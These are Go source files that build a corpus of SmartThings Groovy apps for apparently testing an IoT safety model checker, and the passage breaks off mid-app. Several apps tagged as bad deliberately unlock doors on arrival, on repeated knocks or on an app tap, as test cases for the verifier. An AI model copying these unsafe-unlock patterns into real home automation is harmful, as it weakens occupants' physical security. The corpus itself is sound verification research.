        shades.close()
    } else {
        shades.open()
    }
}
`)

	g6("Doorbell Speaker", `
definition(name: "Doorbell Speaker", namespace: "iotsan.corpus", author: "Community",
    description: "The button by the door plays a chime inside.", category: "Convenience")
preferences {
    section("Doorbell button") { input "bell", "capability.button" }
    section("Speaker") { input "speaker", "capability.tone" }
}
def installed() { subscribe(bell, "button.pushed", ring) }
def updated() { unsubscribe(); subscribe(bell, "button.pushed", ring) }
def ring(evt) {
    speaker.beep()
}
`)

	g6("Appliance Done Speaker", `
definition(name: "Appliance Done Speaker", namespace: "iotsan.corpus", author: "Community",
    description: "Announce when the dryer's power draw drops to idle.", category: "Convenience")
preferences {
    section("Dryer meter") { input "meter", "capability.powerMeter" }
    section("Speaker") { input "speaker", "capability.speechSynthesis" }
}
def installed() { subscribe(meter, "power", powerHandler) }
def updated() { unsubscribe(); subscribe(meter, "power", powerHandler) }
def powerHandler(evt) {
    def watts = evt.numericValue
    if (watts > 100) {
        state.drying = true
    } else if (state.drying && watts < 10) {
        state.drying = false
        speaker.speak()
    }
}
`)

	g6("Plant Minder", `
definition(name: "Plant Minder", namespace: "iotsan.corpus", author: "Community",
    description: "Remind me to water the plants when their soil dries out.", category: "Green Living")
preferences {
    section("Plant soil sensor") { input "soil", "capability.soilMoistureMeasurement" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { subscribe(soil, "soilMoisture", soilHandler) }
def updated() { unsubscribe(); subscribe(soil, "soilMoisture", soilHandler) }
def soilHandler(evt) {
    if (evt.numericValue < 15) {
        if (phone) {
            sendSms(phone, "The plants are thirsty (${evt.value}%)")
        } else {
            sendPush("The plants are thirsty")
        }
    }
}
`, TagGood)

	g6("Garden Valve Timer", `
definition(name: "Garden Valve Timer", namespace: "iotsan.corpus", author: "Community",
    description: "Open the garden valve for a fixed watering window.", category: "Green Living")
preferences {
    section("Garden valve") { input "valve1", "capability.valve" }
    section("Minutes") { input "minutes1", "number", title: "Minutes" }
}
def installed() { subscribe(app, appTouch) }
def updated() { unsubscribe(); subscribe(app, appTouch) }
def appTouch(evt) {
    valve1.open()
    runIn(minutes1 * 60, closeValve)
}
def closeValve() {
    valve1.close()
}
`)

	g6("Color Mood Light", `
definition(name: "Color Mood Light", namespace: "iotsan.corpus", author: "Community",
    description: "Shift the color accent bulb with the location mode.", category: "Convenience")
preferences {
    section("Color bulb") { input "bulb", "capability.colorControl" }
}
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == "Home") {
        bulb.setHue(25)
    } else if (evt.value == "Night") {
        bulb.setHue(70)
    }
}
`)

	g6("Fridge Door Energy Saver", `
definition(name: "Fridge Door Energy Saver", namespace: "iotsan.corpus", author: "Community",
    description: "Track fridge door openings and report at the 10th.", category: "Green Living")
preferences {
    section("Fridge contact") { input "fridge", "capability.contactSensor" }
}
def installed() { subscribe(fridge, "contact.open", openHandler) }
def updated() { unsubscribe(); subscribe(fridge, "contact.open", openHandler) }
def openHandler(evt) {
    def opens = state.opens ?: 0
    opens = opens + 1
    state.opens = opens
    if (opens >= 10) {
        sendPush("Fridge opened ${opens} times today")
        state.opens = 0
    }
}
`)

	g6("Medicine Reminder", `
definition(name: "Medicine Reminder", namespace: "smartthings", author: "SmartThings",
    description: "Remind me if the medicine drawer wasn't opened by evening.", category: "Convenience")
preferences {
    section("Drawer contact") { input "drawer", "capability.contactSensor" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(drawer, "contact.open", tookMedicine)
    subscribe(location, "sunset", checkTaken)
}
def tookMedicine(evt) {
    state.taken = true
}
def checkTaken(evt) {
    if (state.taken != true) {
        sendPush("Medicine drawer not opened today")
    }
    state.taken = false
}
`)

	g6("Pet Feeder Checker", `
definition(name: "Pet Feeder Checker", namespace: "iotsan.corpus", author: "Community",
    description: "The feeder outlet runs twice a day; alert if it draws no power.", category: "Convenience")
preferences {
    section("Feeder outlet") { input "feeder", "capability.switch" }
    section("Feeder meter") { input "meter", "capability.powerMeter" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(location, "sunrise", feedTime)
    subscribe(location, "sunset", feedTime)
}
def feedTime(evt) {
    feeder.on()
    runIn(300, verifyFeed)
}
def verifyFeed() {
    if (meter.currentPower < 5) {
        sendPush("Feeder did not draw power - check it!")
    }
    feeder.off()
}
`)

	g6("Washer Vibration Done", `
definition(name: "Washer Vibration Done", namespace: "iotsan.corpus", author: "Community",
    description: "Use an acceleration sensor to catch the end of the wash cycle.", category: "Convenience")
preferences {
    section("Washer accel") { input "accel", "capability.accelerationSensor" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(accel, "acceleration.active", startedShaking)
    subscribe(accel, "acceleration.inactive", stoppedShaking)
}
def startedShaking(evt) {
    state.running = true
}
def stoppedShaking(evt) {
    if (state.running) {
        runIn(300, confirmDone)
    }
}
def confirmDone() {
    if (accel.currentAcceleration == "inactive" && state.running) {
        state.running = false
        if (phone) {
            sendSms(phone, "Washer finished")
        } else {
            sendPush("Washer finished")
        }
    }
}
`)

	g6("Window AC Contact Guard", `
definition(name: "Window AC Contact Guard", namespace: "iotsan.corpus", author: "Community",
    description: "Don't run the window AC while its window is open.", category: "Green Living")
preferences {
    section("Window contact") { input "window", "capability.contactSensor" }
    section("AC outlet") { input "ac", "capability.switch" }
}
def installed() { subscribe(window, "contact.open", windowOpen) }
def updated() { unsubscribe(); subscribe(window, "contact.open", windowOpen) }
def windowOpen(evt) {
    if (ac.currentSwitch == "on") {
        ac.off()
        sendPush("AC stopped: the window is open")
    }
}
`)

	g6("Aquarium Light Schedule", `
definition(name: "Aquarium Light Schedule", namespace: "iotsan.corpus", author: "Community",
    description: "Aquarium lights follow the sun.", category: "Convenience")
preferences {
    section("Aquarium light") { input "light", "capability.switch" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(location, "sunrise", dayTime)
    subscribe(location, "sunset", nightTime)
}
def dayTime(evt) { light.on() }
def nightTime(evt) { light.off() }
`)

	g6("Speaker Weather Goodbye", `
definition(name: "Speaker Weather Goodbye", namespace: "iotsan.corpus", author: "Community",
    description: "Speak a sendoff when someone is leaving (presence lost).", category: "Convenience")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Speaker") { input "speaker", "capability.speechSynthesis" }
}
def installed() { subscribe(people, "presence.not present", leaving) }
def updated() { unsubscribe(); subscribe(people, "presence.not present", leaving) }
def leaving(evt) {
    speaker.speak()
}
`)

	g6("Garage Workbench Auto Off", `
definition(name: "Garage Workbench Auto Off", namespace: "iotsan.corpus", author: "Community",
    description: "Cut the workbench outlet after the garage goes quiet.", category: "Green Living")
preferences {
    section("Garage motion") { input "motion1", "capability.motionSensor" }
    section("Workbench outlet") { input "bench", "capability.switch" }
}
def installed() { subscribe(motion1, "motion.inactive", quiet) }
def updated() { unsubscribe(); subscribe(motion1, "motion.inactive", quiet) }
def quiet(evt) {
    runIn(1800, benchOff)
}
def benchOff() {
    if (motion1.currentMotion == "inactive") {
        bench.off()
    }
}
`)

	g6("Holiday Light Show", `
definition(name: "Holiday Light Show", namespace: "iotsan.corpus", author: "Community",
    description: "Tap to toggle the holiday light circuit.", category: "Convenience")
preferences {
    section("Holiday lights") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(app, appTouch) }
def updated() { unsubscribe(); subscribe(app, appTouch) }
def appTouch(evt) {
    def anyOn = lights.any { it.currentSwitch == "on" }
    if (anyOn) {
        lights.off()
    } else {
        lights.on()
    }
}
`)

	g6("Desk Lamp Presence", `
definition(name: "Desk Lamp Presence", namespace: "iotsan.corpus", author: "Community",
    description: "Home-office lamp follows motion at the desk.", category: "Convenience")
preferences {
    section("Desk motion") { input "motion1", "capability.motionSensor" }
    section("Lamp") { input "lamp", "capability.switch" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() { subscribe(motion1, "motion", deskHandler) }
def deskHandler(evt) {
    if (evt.value == "active") {
        lamp.on()
    } else {
        runIn(900, lampOff)
    }
}
def lampOff() {
    if (motion1.currentMotion == "inactive") {
        lamp.off()
    }
}
`)

	g6("Humidity Window Cracker", `
definition(name: "Humidity Window Cracker", namespace: "iotsan.corpus", author: "Community",
    description: "Open the shade/vent when the greenhouse is muggy.", category: "Green Living")
preferences {
    section("Greenhouse humidity") { input "hum", "capability.relativeHumidityMeasurement" }
    section("Vent shade") { input "vent", "capability.windowShade" }
}
def installed() { subscribe(hum, "humidity", humHandler) }
def updated() { unsubscribe(); subscribe(hum, "humidity", humHandler) }
def humHandler(evt) {
    if (evt.numericValue > 85) {
        vent.open()
    } else if (evt.numericValue < 60) {
        vent.close()
    }
}
`)

	g6("Level Lock Step", `
definition(name: "Level Lock Step", namespace: "iotsan.corpus", author: "Community",
    description: "Tie the lamp dimmer to the media player state.", category: "Convenience")
preferences {
    section("Player") { input "player", "capability.musicPlayer" }
    section("Lamp dimmer") { input "dimmer", "capability.switchLevel" }
}
def installed() { subscribe(player, "status", statusHandler) }
def updated() { unsubscribe(); subscribe(player, "status", statusHandler) }
def statusHandler(evt) {
    if (evt.value == "playing") {
        dimmer.setLevel(30)
    } else {
        dimmer.setLevel(80)
    }
}
`)

	g6("Sprinkler Mode Pause", `
definition(name: "Sprinkler Mode Pause", namespace: "iotsan.corpus", author: "Community",
    description: "Never water while the house party mode (Home+motion) is on.", category: "Green Living")
preferences {
    section("Sprinkler") { input "sprinkler", "capability.switch" }
    section("Yard motion") { input "motion1", "capability.motionSensor" }
}
def installed() { subscribe(motion1, "motion.active", yardBusy) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", yardBusy) }
def yardBusy(evt) {
    if (sprinkler.currentSwitch == "on") {
        sprinkler.off()
        runIn(1800, resumeWatering)
    }
}
def resumeWatering() {
    if (motion1.currentMotion == "inactive") {
        sprinkler.on()
    }
}
`)

	g6("Soil Sensor Battery Watch", `
definition(name: "Soil Sensor Battery Watch", namespace: "iotsan.corpus", author: "Community",
    description: "Warn when the garden sensor battery runs low.", category: "Convenience")
preferences {
    section("Garden sensor battery") { input "batteryDev", "capability.battery" }
}
def installed() { subscribe(batteryDev, "battery", batteryHandler) }
def updated() { unsubscribe(); subscribe(batteryDev, "battery", batteryHandler) }
def batteryHandler(evt) {
    if (evt.numericValue < 10) {
        sendPush("Garden sensor battery at ${evt.value}%")
    }
}
`)
}
