package corpus

// Group 1: lighting and entry automation (contact sensors, illuminance,
// switches, locks). 25 apps with the named Table 2 apps.

func g1(name, groovy string, tags ...Tag) {
	register(Source{Name: name, Group: 1, Tags: append([]Tag{TagMarket}, tags...), Groovy: groovy})
}

func init() {
	g1("Let There Be Light", `
definition(name: "Let There Be Light", namespace: "smartthings", author: "SmartThings",
    description: "Turn lights on when a door opens and off when it closes.", category: "Convenience")
preferences {
    section("Door") { input "contact1", "capability.contactSensor" }
    section("Lights") { input "switches", "capability.switch", multiple: true }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() { subscribe(contact1, "contact", contactHandler) }
def contactHandler(evt) {
    if (evt.value == "open") {
        switches.on()
    } else {
        switches.off()
    }
}
`)

	g1("Smart Nightlight", `
definition(name: "Smart Nightlight", namespace: "smartthings", author: "SmartThings",
    description: "Turns on lights when it is dark and motion is detected.", category: "Convenience")
preferences {
    section("Lights") { input "lights", "capability.switch", multiple: true }
    section("Motion") { input "motionSensor", "capability.motionSensor" }
    section("Luminance") { input "lightSensor", "capability.illuminanceMeasurement" }
    section("Dark threshold") { input "luxLevel", "number", title: "Lux?" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(motionSensor, "motion", motionHandler)
    subscribe(lightSensor, "illuminance", illuminanceHandler)
}
def motionHandler(evt) {
    if (evt.value == "active" && lightSensor.currentIlluminance < luxLevel) {
        lights.on()
        state.lastStatus = "on"
    } else if (evt.value == "inactive" && state.lastStatus == "on") {
        lights.off()
        state.lastStatus = "off"
    }
}
def illuminanceHandler(evt) {
    if (evt.numericValue > luxLevel && state.lastStatus == "on") {
        lights.off()
        state.lastStatus = "off"
    }
}
`)

	g1("Welcome Home Light", `
definition(name: "Welcome Home Light", namespace: "iotsan.corpus", author: "Community",
    description: "Turn on entry lights when someone arrives.", category: "Convenience")
preferences {
    section("Presence") { input "people", "capability.presenceSensor", multiple: true }
    section("Entry lights") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(people, "presence.present", arrivalHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.present", arrivalHandler) }
def arrivalHandler(evt) {
    lights.on()
}
`)

	g1("Goodbye Lights", `
definition(name: "Goodbye Lights", namespace: "iotsan.corpus", author: "Community",
    description: "Turn everything off when the last person leaves.", category: "Convenience")
preferences {
    section("Presence") { input "people", "capability.presenceSensor", multiple: true }
    section("Turn off") { input "switches", "capability.switch", multiple: true }
}
def installed() { subscribe(people, "presence.not present", departureHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.not present", departureHandler) }
private nobodyHome() {
    def home = people.findAll { it.currentPresence == "present" }
    return home.size() == 0
}
def departureHandler(evt) {
    if (nobodyHome()) {
        switches.off()
    }
}
`)

	g1("Lock It When I Leave", `
definition(name: "Lock It When I Leave", namespace: "smartthings", author: "SmartThings",
    description: "Locks the door when a presence sensor leaves.", category: "Safety & Security")
preferences {
    section("Presence") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence.not present", leftHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.not present", leftHandler) }
def leftHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (!anyoneHome) {
        lock1.lock()
        sendPush("Locked the door because everyone left")
    }
}
`, TagGood)

	g1("Unlock When I Arrive", `
definition(name: "Unlock When I Arrive", namespace: "iotsan.corpus", author: "Community",
    description: "Unlocks the door when someone arrives home.", category: "Convenience")
preferences {
    section("Presence") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence.present", arrivedHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.present", arrivedHandler) }
def arrivedHandler(evt) {
    lock1.unlock()
}
`, TagBad)

	g1("Auto Lock Door", `
definition(name: "Auto Lock Door", namespace: "smartthings", author: "SmartThings",
    description: "Automatically locks the door after it closes.", category: "Safety & Security")
preferences {
    section("Lock") { input "lock1", "capability.lock" }
    section("Door contact") { input "contact1", "capability.contactSensor" }
    section("Delay (minutes)") { input "minutesLater", "number", title: "Minutes?" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() { subscribe(contact1, "contact.closed", doorClosedHandler) }
def doorClosedHandler(evt) {
    runIn(minutesLater * 60, lockDoor)
}
def lockDoor() {
    if (contact1.currentContact == "closed") {
        lock1.lock()
    }
}
`)

	g1("Forgotten Door Alert", `
definition(name: "Forgotten Door Alert", namespace: "iotsan.corpus", author: "Community",
    description: "Notify me when a door is left open.", category: "Safety & Security")
preferences {
    section("Door") { input "contact1", "capability.contactSensor" }
    section("Minutes") { input "openMinutes", "number", title: "Minutes?" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(contact1, "contact.open", doorOpen)
    subscribe(contact1, "contact.closed", doorClosed)
}
def doorOpen(evt) {
    state.open = true
    runIn(openMinutes * 60, checkStillOpen)
}
def doorClosed(evt) {
    state.open = false
}
def checkStillOpen() {
    if (state.open) {
        if (phone) {
            sendSms(phone, "${contact1.displayName} has been open too long")
        } else {
            sendPush("${contact1.displayName} has been open too long")
        }
    }
}
`, TagGood)

	extra("Hall Light on Door Knock", `
definition(name: "Hall Light on Door Knock", namespace: "iotsan.corpus", author: "Community",
    description: "Turn on the hall light when the door vibrates (a knock).", category: "Convenience")
preferences {
    section("Acceleration") { input "accel", "capability.accelerationSensor" }
    section("Light") { input "light", "capability.switch" }
}
def installed() { subscribe(accel, "acceleration.active", knockHandler) }
def updated() { unsubscribe(); subscribe(accel, "acceleration.active", knockHandler) }
def knockHandler(evt) {
    light.on()
}
`)

	extra("Entry Light Dimmer", `
definition(name: "Entry Light Dimmer", namespace: "iotsan.corpus", author: "Community",
    description: "Set the entry dimmer to a comfortable level when the door opens.", category: "Convenience")
preferences {
    section("Door") { input "contact1", "capability.contactSensor" }
    section("Dimmer") { input "dimmer", "capability.switchLevel" }
    section("Level") { input "level", "number", title: "0-100" }
}
def installed() { subscribe(contact1, "contact.open", openHandler) }
def updated() { unsubscribe(); subscribe(contact1, "contact.open", openHandler) }
def openHandler(evt) {
    dimmer.setLevel(level)
    dimmer.on()
}
`)

	g1("Closet Light", `
definition(name: "Closet Light", namespace: "iotsan.corpus", author: "Community",
    description: "Light follows the closet door: on when open, off when closed.", category: "Convenience")
preferences {
    section("Closet door") { input "door", "capability.contactSensor" }
    section("Closet light") { input "light", "capability.switch" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(door, "contact.open", onHandler)
    subscribe(door, "contact.closed", offHandler)
}
def onHandler(evt) { light.on() }
def offHandler(evt) { light.off() }
`)

	g1("Big Turn Off", `
definition(name: "Big Turn Off", namespace: "smartthings", author: "SmartThings",
    description: "Turn your lights off when the SmartApp is tapped or activated.", category: "Convenience")
preferences {
    section("Turn off...") { input "switches", "capability.switch", multiple: true }
}
def installed() {
    subscribe(app, appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def updated() {
    unsubscribe()
    subscribe(app, appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) { switches.off() }
def changedLocationMode(evt) { switches.off() }
`)

	g1("Double Duty Contact", `
definition(name: "Double Duty Contact", namespace: "iotsan.corpus", author: "Community",
    description: "One contact sensor drives a light and notifies after hours.", category: "Convenience")
preferences {
    section("Contact") { input "contact1", "capability.contactSensor" }
    section("Light") { input "light", "capability.switch" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() { subscribe(contact1, "contact", bothHandler) }
def updated() { unsubscribe(); subscribe(contact1, "contact", bothHandler) }
def bothHandler(evt) {
    if (evt.value == "open") {
        light.on()
        if (location.mode == "Night" && phone) {
            sendSms(phone, "Door opened during the night")
        }
    } else {
        light.off()
    }
}
`)

	g1("Illuminance Curtain Call", `
definition(name: "Illuminance Curtain Call", namespace: "iotsan.corpus", author: "Community",
    description: "Turn porch lights on when it gets dark outside.", category: "Convenience")
preferences {
    section("Outdoor sensor") { input "lux", "capability.illuminanceMeasurement" }
    section("Porch lights") { input "lights", "capability.switch", multiple: true }
    section("Threshold") { input "threshold", "number", title: "Lux" }
}
def installed() { subscribe(lux, "illuminance", luxHandler) }
def updated() { unsubscribe(); subscribe(lux, "illuminance", luxHandler) }
def luxHandler(evt) {
    if (evt.numericValue < threshold) {
        lights.on()
    } else {
        lights.off()
    }
}
`)

	g1("Sunrise Off Sunset On", `
definition(name: "Sunrise Off Sunset On", namespace: "iotsan.corpus", author: "Community",
    description: "Outdoor lights follow the sun.", category: "Convenience")
preferences {
    section("Lights") { input "lights", "capability.switch", multiple: true }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(location, "sunrise", sunriseHandler)
    subscribe(location, "sunset", sunsetHandler)
}
def sunriseHandler(evt) { lights.off() }
def sunsetHandler(evt) { lights.on() }
`)

	g1("Knock Knock Unlock", `
definition(name: "Knock Knock Unlock", namespace: "iotsan.corpus", author: "Community",
    description: "Unlock the door after repeated knocks while someone is home.", category: "Convenience")
preferences {
    section("Knock sensor") { input "accel", "capability.accelerationSensor" }
    section("Lock") { input "lock1", "capability.lock" }
    section("Presence") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(accel, "acceleration.active", knock) }
def updated() { unsubscribe(); subscribe(accel, "acceleration.active", knock) }
def knock(evt) {
    def count = state.knocks ?: 0
    count = count + 1
    state.knocks = count
    if (count >= 2) {
        def anyoneHome = people.any { it.currentPresence == "present" }
        if (anyoneHome) {
            lock1.unlock()
        }
        state.knocks = 0
    }
}
`, TagBad)

	g1("Light Up the Night", `
definition(name: "Light Up the Night", namespace: "smartthings", author: "SmartThings",
    description: "Turn lights on when it gets dark and off at daybreak.", category: "Convenience")
preferences {
    section("Luminance sensor") { input "lightSensor", "capability.illuminanceMeasurement" }
    section("Lights") { input "lights", "capability.switch", multiple: true }
}
def installed() { subscribe(lightSensor, "illuminance", illuminanceHandler) }
def updated() { unsubscribe(); subscribe(lightSensor, "illuminance", illuminanceHandler) }
def illuminanceHandler(evt) {
    def lastStatus = state.lastStatus
    if (evt.numericValue < 30 && lastStatus != "on") {
        lights.on()
        state.lastStatus = "on"
    } else if (evt.numericValue > 50 && lastStatus != "off") {
        lights.off()
        state.lastStatus = "off"
    }
}
`)

	g1("Curfew Check", `
definition(name: "Curfew Check", namespace: "iotsan.corpus", author: "Community",
    description: "Text me when the front door opens while the house is in Night mode.", category: "Safety & Security")
preferences {
    section("Front door") { input "contact1", "capability.contactSensor" }
    section("Phone") { input "phone", "phone" }
}
def installed() { subscribe(contact1, "contact.open", openHandler) }
def updated() { unsubscribe(); subscribe(contact1, "contact.open", openHandler) }
def openHandler(evt) {
    if (location.mode == "Night") {
        sendSms(phone, "Front door opened after curfew")
    }
}
`, TagGood)

	g1("Porch Motion Spotlight", `
definition(name: "Porch Motion Spotlight", namespace: "iotsan.corpus", author: "Community",
    description: "Spotlight on porch motion, off after quiet time.", category: "Safety & Security")
preferences {
    section("Porch motion") { input "motion1", "capability.motionSensor" }
    section("Spotlight") { input "light", "capability.switch" }
    section("Off delay (min)") { input "offDelay", "number", title: "Minutes" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() { subscribe(motion1, "motion", motionHandler) }
def motionHandler(evt) {
    if (evt.value == "active") {
        light.on()
    } else {
        runIn(offDelay * 60, turnOff)
    }
}
def turnOff() {
    if (motion1.currentMotion == "inactive") {
        light.off()
    }
}
`)

	g1("Open Sesame", `
definition(name: "Open Sesame", namespace: "iotsan.corpus", author: "Community",
    description: "Tap the app to toggle the entry light and unlock the side door.", category: "Convenience")
preferences {
    section("Entry light") { input "light", "capability.switch" }
    section("Side door lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(app, appTouch) }
def updated() { unsubscribe(); subscribe(app, appTouch) }
def appTouch(evt) {
    if (light.currentSwitch == "on") {
        light.off()
    } else {
        light.on()
    }
    lock1.unlock()
}
`, TagBad)

	g1("Dark Arrival", `
definition(name: "Dark Arrival", namespace: "iotsan.corpus", author: "Community",
    description: "When someone arrives and it is dark, light the path and unlock.", category: "Convenience")
preferences {
    section("Presence") { input "person", "capability.presenceSensor" }
    section("Path lights") { input "lights", "capability.switch", multiple: true }
    section("Light sensor") { input "lux", "capability.illuminanceMeasurement" }
    section("Lock") { input "lock1", "capability.lock", required: false }
}
def installed() { subscribe(person, "presence.present", arrival) }
def updated() { unsubscribe(); subscribe(person, "presence.present", arrival) }
def arrival(evt) {
    if (lux.currentIlluminance < 40) {
        lights.on()
    }
    if (lock1) {
        lock1.unlock()
    }
}
`)

	extra("Flash on Arrival", `
definition(name: "Flash on Arrival", namespace: "iotsan.corpus", author: "Community",
    description: "Turn the living room lamp on briefly when family arrives.", category: "Convenience")
preferences {
    section("Family") { input "people", "capability.presenceSensor", multiple: true }
    section("Lamp") { input "lamp", "capability.switch" }
}
def installed() { subscribe(people, "presence.present", arrive) }
def updated() { unsubscribe(); subscribe(people, "presence.present", arrive) }
def arrive(evt) {
    lamp.on()
    runIn(120, lampOff)
}
def lampOff() {
    lamp.off()
}
`)

	extra("Left It Open Light", `
definition(name: "Left It Open Light", namespace: "iotsan.corpus", author: "Community",
    description: "Blink the hallway light if the fridge door stays open.", category: "Convenience")
preferences {
    section("Fridge contact") { input "fridge", "capability.contactSensor" }
    section("Hall light") { input "light", "capability.switch" }
}
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(fridge, "contact.open", openHandler)
    subscribe(fridge, "contact.closed", closedHandler)
}
def openHandler(evt) {
    runIn(300, warn)
}
def closedHandler(evt) {
    unschedule()
}
def warn() {
    if (fridge.currentContact == "open") {
        light.on()
    }
}
`)

	g1("Front Door Greeter", `
definition(name: "Front Door Greeter", namespace: "iotsan.corpus", author: "Community",
    description: "Speak a greeting when the front door opens while someone is home.", category: "Convenience")
preferences {
    section("Front door") { input "door", "capability.contactSensor" }
    section("Speaker") { input "speaker", "capability.musicPlayer" }
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(door, "contact.open", openHandler) }
def updated() { unsubscribe(); subscribe(door, "contact.open", openHandler) }
def openHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (anyoneHome) {
        speaker.play()
    }
}
`)
}
