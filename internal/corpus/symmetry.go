package corpus

// The symmetry group: apps written against fleets of interchangeable
// devices (multiple identical presence sensors, multiple identical
// door contacts) driving shared singleton actuators. The symmetry
// reduction's equivalence and fold-ratio gates run on this group: its
// configurations install ≥3 interchangeable devices of two capability
// types, so within-orbit permutations of sensor state induce large
// isomorphic subspaces the canonicalization layer must fold without
// changing the distinct-violation set. All apps are symmetry-safe by
// construction: device identity appears only in log/notification
// messages, aggregation over the device lists is order-insensitive
// (any/each), and commands target singleton devices or broadcast
// uniformly.

// TagSymmetry marks the interchangeable-device corpus group.
const TagSymmetry Tag = "symmetry"

// SymmetryGroup returns the interchangeable-device app group, sorted by
// name.
func SymmetryGroup() []Source {
	return WithTag(TagSymmetry)
}

func symApp(name, groovy string) {
	register(Source{Name: name, Groovy: groovy, Tags: []Tag{TagExtra, TagSymmetry}})
}

func init() {
	// Opposing commands on the same contact-open event: every open of
	// any of the interchangeable contacts raises a conflicting-commands
	// violation on the singleton hall light.
	symApp("Any Door Light On", `
definition(name: "Any Door Light On", namespace: "iotsan.corpus", author: "Community",
    description: "Turn the hall light on when any door opens.", category: "Convenience")
preferences {
    section("Doors") { input "contacts", "capability.contactSensor", multiple: true }
    section("Light") { input "light", "capability.switch" }
}
def installed() { subscribe(contacts, "contact.open", openHandler) }
def updated() { unsubscribe(); subscribe(contacts, "contact.open", openHandler) }
def openHandler(evt) {
    log.debug "open from ${evt.displayName}"
    light.on()
}
`)

	symApp("Any Door Light Off", `
definition(name: "Any Door Light Off", namespace: "iotsan.corpus", author: "Community",
    description: "Keep the hall dark: switch the light off when a door opens.", category: "Green Living")
preferences {
    section("Doors") { input "contacts", "capability.contactSensor", multiple: true }
    section("Light") { input "light", "capability.switch" }
}
def installed() { subscribe(contacts, "contact.open", openHandler) }
def updated() { unsubscribe(); subscribe(contacts, "contact.open", openHandler) }
def openHandler(evt) {
    light.off()
}
`)

	// Two apps turning the same light on for the same arrival event:
	// repeated-commands on the singleton light, triggered through the
	// presence-sensor orbit.
	symApp("Arrival Hall Light", `
definition(name: "Arrival Hall Light", namespace: "iotsan.corpus", author: "Community",
    description: "Light the hall when someone arrives.", category: "Convenience")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Light") { input "light", "capability.switch" }
}
def installed() { subscribe(people, "presence.present", arrivalHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.present", arrivalHandler) }
def arrivalHandler(evt) {
    light.on()
}
`)

	symApp("Welcome Glow", `
definition(name: "Welcome Glow", namespace: "iotsan.corpus", author: "Community",
    description: "Glow the hall light for arrivals and notify.", category: "Convenience")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Light") { input "light", "capability.switch" }
}
def installed() { subscribe(people, "presence.present", arrivalHandler) }
def updated() { unsubscribe(); subscribe(people, "presence.present", arrivalHandler) }
def arrivalHandler(evt) {
    light.on()
    sendPush("Welcome home, ${evt.displayName}")
}
`)

	// Order-insensitive aggregation over the presence orbit plus
	// persistent state and a lock actuator: exercises slot state and
	// queue canonicalization without breaking the symmetry certificate.
	symApp("Last Out Lock", `
definition(name: "Last Out Lock", namespace: "iotsan.corpus", author: "Community",
    description: "Lock the front door when the last person leaves.", category: "Safety & Security")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    def anyoneHome = people.any { it.currentPresence == "present" }
    if (!anyoneHome) {
        lock1.lock()
        state.lastAction = "locked"
    }
}
`)

	// Pure-local bookkeeping over the presence orbit: writes only its
	// own persistent state (no commands, no events), so its pending
	// dispatches are partial-order-reducible — the composed
	// POR+symmetry benchmark row needs both reductions to engage.
	symApp("Arrival Counter", `
definition(name: "Arrival Counter", namespace: "iotsan.corpus", author: "Community",
    description: "Count comings and goings.", category: "Convenience")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
}
def installed() { subscribe(people, "presence", presenceHandler) }
def updated() { unsubscribe(); subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "present") {
        state.arrivals = (state.arrivals ?: 0) + 1
    } else {
        state.departures = (state.departures ?: 0) + 1
    }
}
`)

	// Unlocks on any arrival: with Last Out Lock this reproduces the
	// paper's unsafe-unlock pattern over an orbit of presence sensors
	// (main-door invariants fire identically whichever sensor arrives).
	symApp("First In Unlock", `
definition(name: "First In Unlock", namespace: "iotsan.corpus", author: "Community",
    description: "Unlock the front door when someone arrives.", category: "Safety & Security")
preferences {
    section("People") { input "people", "capability.presenceSensor", multiple: true }
